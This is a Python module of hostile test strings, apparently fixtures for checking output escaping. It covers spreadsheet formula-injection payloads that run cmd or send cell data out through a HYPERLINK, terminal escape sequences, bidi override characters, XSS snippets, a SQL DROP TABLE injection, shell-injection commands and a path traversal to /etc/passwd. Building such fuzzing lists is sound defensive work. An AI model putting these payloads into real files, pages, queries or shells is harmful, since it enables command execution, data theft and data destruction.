"""Texts that do harm somewhere: in a spreadsheet, a terminal, a browser, a shell or a format."""

FORMULAS = {
    "cmd": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "space": " =1+1",
    "wide": "\uff1d1+1",
    "zero-width": "\u200b=1+1",
    "semicolon": "x;=1+1",
    "quote": '"=1+1',
}
TERMINAL = {
    "colour": "\x1b[31mrood\x1b[0m",
    "title": "\x1b]0;titel\x07x",
    "clear": "\x1b[2J\x1b[Hweg",
    "csi-8-bit": "\x9b31mrood",
    "backspace": "goed\b\b\b\bfout",
    "return": "goed\rfout",
    "bell": "\x07bel",
    "link": "\x1b]8;;http://example.invalid\x1b\\klik\x1b]8;;\x1b\\",
    "markup": "[bold red]rood[/bold red] [link=http://example.invalid]klik[/link] [/]",
    "override": "\u202etxet\u202c",
    "isolate": "\u2066a\u2069",
}
ELSEWHERE = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "entity": "&lt;b&gt; &amp; &#x3c;",
    "braces": "{0} {missing} {__class__.__mro__} {",
    "percent": "%s %n %(x)s %",
    "sql": "'; DROP TABLE facts; --",
    "shell": "$(touch /tmp/x) `id` ; rm -rf x",
    "path": "../../../../etc/passwd",
    "backticks": "`x` ```",
    "lines": "een\ntwee\r\ndrie",
    "separators": "een\u2028twee\u2029drie",
    "combining": "z" + "\u0301" * 200,
    "emoji": "\U0001f3e0\u200d\U0001f525\ufe0f",
    "private": "\ue000\U000f0000",
    "noncharacter": "\ufffe\uffff\U0010ffff",
    "arabic": "\u0661\u0662\u0663",
    "null-word": "null None NaN undefined",
    "long": "x" * 20_000,
}
EVERY = {
    **{f"formula-{key}": text for key, text in FORMULAS.items()},
    **{f"terminal-{key}": text for key, text in TERMINAL.items()},
    **{f"text-{key}": text for key, text in ELSEWHERE.items()},
}
